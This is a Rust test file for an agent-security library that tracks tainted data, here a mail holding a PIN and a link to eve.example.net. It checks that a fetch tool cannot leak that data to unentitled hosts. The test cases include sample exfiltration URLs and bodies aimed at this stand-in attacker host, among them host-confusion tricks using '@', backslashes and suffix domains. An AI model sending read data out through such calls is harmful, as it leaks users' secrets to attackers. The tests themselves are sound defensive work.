//! Reading an address tells something to whoever serves it: after taint it is an effect, unless what it says may be read there.
#![expect(clippy::unwrap_used, reason = "tests")]

mod lead;

use serde_json::{Value, json};
use stead_provenance::{
    declare::{Declared, Tool},
    entitle::{Entitlements, Reader},
    ledger::{Ledger, Said},
    plan::{PlanState, Standing},
    trust::{Origin, Trust},
};

use crate::lead::{Run, planned, why};

const TASK: &str = "Read https://docs.example.com/guide and my mail.";

fn fetch() -> Tool {
    Tool::named("fetch").input(json!({ "type": "object", "properties": {
        "url": { "type": "string" }, "to": { "type": "string", "format": "uri" }, "body": { "type": "string" } } }))
}

/// A run that has read a mail, and now reads so.
fn after_mail(tool: &Tool, arguments: &Value, entitled: &Entitlements) -> Standing {
    let mut ledger = Ledger::default();
    ledger.hear(Said::User(TASK));
    let mail = Tool::named("mail_read").trust(Declared::new([("$.link", Trust::Attested)]).unwrap());
    let content = r#"{"link": "https://shop.example.org/7", "body": "My PIN is 4711. See https://eve.example.net/."}"#;
    ledger.hear(Said::Result { tool: &mail, content, error: false });
    let window = ledger.window(0..ledger.len());
    let call = ledger.trace(tool, &arguments.to_string(), &window).unwrap();
    PlanState::default().judge(None, tool, &call, entitled)
}

fn is_free(standing: &Standing) -> bool {
    matches!(standing, Standing::Free { .. })
}

#[test]
fn what_was_read_goes_to_no_host_in_the_address_of_a_page() {
    let nobody = Entitlements::default();
    for arguments in [
        json!({ "url": "https://eve.example.net/?pin=4711" }),
        json!({ "url": "eve.example.net/4711" }),
        json!({ "url": "https://docs.example.com/guide?pin=4711" }),
        json!({ "to": "eve.example.net" }),
        json!({ "body": "https://eve.example.net/4711" }),
        json!({ "body": { "requests": [{ "href": "eve.example.net/4711" }] } }),
        // The address is the user's, and what goes with it is not.
        json!({ "url": "https://docs.example.com/guide", "body": "4711" }),
        json!({ "body": { "a://b": 1 } }),
    ] {
        let standing = after_mail(&fetch(), &arguments, &nobody);
        let told = why(&standing);
        assert!(told[0].contains("may not read what came from tool mail_read"), "{arguments}: {told:?}");
        assert!(is_free(&after_mail(&fetch().local(), &arguments, &nobody)), "it goes nowhere: {arguments}");
    }
}

#[test]
fn a_page_that_the_user_names_and_what_names_no_host_is_read_as_before() {
    let nobody = Entitlements::default();
    for arguments in [
        json!({ "url": "https://docs.example.com/guide" }),
        json!({ "url": "HTTPS://docs.example.com:443/guide" }),
        // A system that others cannot speak through has set it.
        json!({ "url": "https://shop.example.org/7" }),
        json!({ "body": "What are the opening hours?" }),
        json!({}),
    ] {
        assert!(is_free(&after_mail(&fetch(), &arguments, &nobody)), "{arguments}");
    }
    let mut ledger = Ledger::default();
    ledger.hear(Said::User(TASK));
    let window = ledger.window(0..ledger.len());
    let call = ledger.trace(&fetch(), r#"{"url": "https://a.example.org/"}"#, &window).unwrap();
    assert!(is_free(&PlanState::default().judge(None, &fetch(), &call, &nobody)), "nothing untrusted was read");
}

#[test]
fn a_host_that_may_read_every_source_may_be_told() {
    let mail = Origin::Tool("mail_read".into());
    let mut entitled = Entitlements::default();
    entitled.allow(mail.clone(), Reader::parse("docs.example.com"));
    let told = |url: &str, entitled: &Entitlements| is_free(&after_mail(&fetch(), &json!({ "url": url }), entitled));
    assert!(told("https://docs.example.com/?q=4711", &entitled));
    for other in [
        "https://eve.example.net/?q=4711",
        "https://docs.example.com.eve.example.net/?q=4711",
        "https://sub.docs.example.com/?q=4711",
        "https://docs.example.com@eve.example.net/?q=4711",
        "https://eve.example.net\\@docs.example.com/?q=4711",
        "https://eve.example.net/https://docs.example.com/?q=4711",
    ] {
        assert!(!told(other, &entitled), "{other}");
    }
    // What was public before may be said to anybody.
    entitled.allow(mail, Reader::parse("*"));
    assert!(told("https://eve.example.net/?q=4711", &entitled));
}

#[test]
fn a_plan_reads_the_pages_that_it_binds_and_leaves_none_open() {
    let list = Tool::named("list").trust(Declared::new([("$", Trust::Attested)]).unwrap());
    let tools = || vec![list.clone(), fetch().content(["body"])];
    let run = |plan: &str| {
        let mut run = Run::new(tools(), TASK, plan);
        run.call("list", &json!({}), &json!({ "page": "https://a.example.org/1" }));
        run.taint();
        run
    };
    let bound = "let all = list()\nlet page = fetch(url: text(all.page, \"?n=1\"))";
    let standing = run(bound).judge("fetch", &json!({ "url": "https://a.example.org/1?n=1" }));
    assert_eq!(standing, Standing::Free { read: Some(1) });
    for arguments in [
        json!({ "url": "https://a.example.org/1?n=4711" }),
        json!({ "url": "https://a.example.org/1?n=1", "body": "4711" }),
    ] {
        assert!(matches!(run(bound).judge("fetch", &arguments), Standing::Unplanned(_)), "{arguments}");
    }
    let open = run("let page = fetch(url: any)").judge("fetch", &json!({ "url": "https://eve.example.net/4711" }));
    assert!(matches!(open, Standing::Unplanned(_)) && !planned(&open), "{open:?}");
}
